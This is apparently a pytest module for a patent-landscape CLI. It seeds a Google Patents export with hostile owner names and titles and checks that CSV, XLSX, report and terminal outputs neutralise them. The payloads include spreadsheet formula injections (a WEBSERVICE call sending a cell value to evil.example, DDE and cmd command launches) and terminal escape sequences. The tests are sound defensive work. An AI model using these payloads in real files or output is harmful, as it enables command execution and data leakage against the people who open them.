"""Hostile data stays data, end to end: a real Google Patents export with formula owner names and titles
holding terminal escape sequences, ingested and enriched, then written through every export path (landscape
CSV and XLSX, the report's CSVs) and printed by every command that shows stored text."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from patscape.cli import main

GP_EXPORT = "gp_ai_patents_cpc/gp_search_exports/gp-search-20251001-102718.csv"
FORMULAS = [
    '=WEBSERVICE("http://evil.example/?q="&B2)',
    '=DDE("cmd";"/C calc";"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1 Holdings",
    '  =HYPERLINK("http://evil.example") Inc.',
]
ESCAPES = (
    "Generative network \x1b]0;pwned\x07 for \x1b[2J images \x1b]8;;http://evil.example\x1b\\link"
    "\x1b]8;;\x1b\\ [link=http://evil.example]click[/link] \x9b31m"
)


@pytest.fixture(scope="module")
def hostile(data: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, list[str], str]:
    """(database, the keys of the rows whose owner is a formula, the key of the row with escapes)."""
    folder = tmp_path_factory.mktemp("hostile")
    with open(data / GP_EXPORT, encoding="utf-8", newline="") as f:
        header, *rows = list(csv.reader(f))
    rows = rows[:200]
    owner, title = header.index("assignee"), header.index("title")
    for i, row in enumerate(rows[: 10 * len(FORMULAS)]):  # ten rows each: among the report's top owners
        row[owner] = FORMULAS[i % len(FORMULAS)]
    rows[len(FORMULAS)][title] = ESCAPES
    source = folder / "gp-search-hostile.csv"
    with open(source, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(header)
        writer.writerows(rows)
    db = str(folder / "hostile.duckdb")
    for args in (["ingest", str(source), "-q"], ["enrich"]):
        result = CliRunner().invoke(main, [*args, "--db", db])
        assert result.exit_code == 0, result.output
    return db, [r[0] for r in rows[: len(FORMULAS)]], rows[len(FORMULAS)][0]


def _check_cells(cells: list[str], where: str) -> None:
    """Every formula owner appears as text ('…), and no cell is a number turned into text."""
    for name in (f.strip() for f in FORMULAS):  # the readers trim names
        assert "'" + name in cells, (where, name)
        assert name not in cells, (where, name)
    assert not [c for c in cells if c.startswith("'") and c[1:].lstrip("-+").replace(".", "").isdigit()]


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_landscape_csv(hostile: tuple[str, list[str], str], tmp_path: Path) -> None:
    db, _, _ = hostile
    out = tmp_path / "owners.csv"
    result = CliRunner().invoke(
        main, ["landscape", "--db", db, "--by", "owner", "--top", "500", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    written = sorted(tmp_path.glob("owners*.csv"))  # one file per table
    assert written
    _check_cells([cell for path in written for cell in _csv_cells(path)], "landscape csv")


def test_landscape_xlsx(hostile: tuple[str, list[str], str], tmp_path: Path) -> None:
    db, _, _ = hostile
    out = tmp_path / "owners.xlsx"
    args = ["landscape", "--db", db, "--by", "owner", "--top", "500", "--out", str(out)]
    assert CliRunner().invoke(main, args).exit_code == 0
    book = openpyxl.load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    _check_cells([c.value for c in cells if isinstance(c.value, str)], "landscape xlsx")
    sheet = book["owners"]
    header = [c.value for c in sheet[1]]
    families = [row[header.index("families")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert families and all(isinstance(n, int | float) for n in families)  # numbers stay numbers


def test_landscape_csv_keeps_negative_numbers(hostile: tuple[str, list[str], str], tmp_path: Path) -> None:
    db, _, _ = hostile
    out = tmp_path / "l.csv"
    args = ["landscape", "--db", db, "--country-by", "office", "--year", "priority", "--window", "2020-2023"]
    args += ["--out", str(out)]
    assert CliRunner().invoke(main, args).exit_code == 0
    with open(tmp_path / "l-growth.csv", encoding="utf-8", newline="") as f:
        growth = list(csv.DictReader(f))
    values = [row[c] for row in growth for c in row if row[c].startswith("-")]
    assert values, "a fall somewhere in the growth table"
    assert all(float(v) < 0 for v in values)  # written as numbers, not as '-… text


def test_report_csvs(hostile: tuple[str, list[str], str], tmp_path: Path) -> None:
    db, _, _ = hostile
    out = tmp_path / "report"
    result = CliRunner().invoke(main, ["report", "--db", db, "--out", str(out), "--no-pdf"])
    assert result.exit_code == 0, result.output
    cells = [cell for path in sorted(out.glob("*.csv")) for cell in _csv_cells(path)]
    assert [c for c in cells if "WEBSERVICE" in c] and all(
        c.startswith("'=") for c in cells if "WEBSERVICE" in c
    )
    assert not [c for c in cells if c.lstrip(" \t\r").startswith("=")]


def _assert_harmless(output: str, where: str) -> None:
    assert not [c for c in output if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F], where


@pytest.mark.parametrize("as_json", [False, True])
def test_escape_sequences_never_reach_the_terminal(
    hostile: tuple[str, list[str], str], as_json: bool
) -> None:
    db, owners, escaped = hostile
    extra = ["--json"] if as_json else []
    for args in (
        ["show", escaped],
        ["search", "generative network images"],
        ["explain", escaped],
        ["owners", "--top", "500"],
        ["landscape", "--by", "owner", "--top", "500"],
        ["show", owners[0]],
    ):
        result = CliRunner().invoke(main, [*args, "--db", db, *extra])
        assert result.exit_code == 0, (args, result.output)
        _assert_harmless(result.output, " ".join(args))
        if args == ["show", escaped]:
            if as_json:  # the value itself, escaped the JSON way
                assert json.loads(result.output)["publication"]["title"] == " ".join(ESCAPES.split())
            else:  # shown as text
                printed = result.output.replace("\n", "")
                assert "\\x1b]0;pwned\\x07" in printed and "[link=http://evil.example]click[/link]" in printed
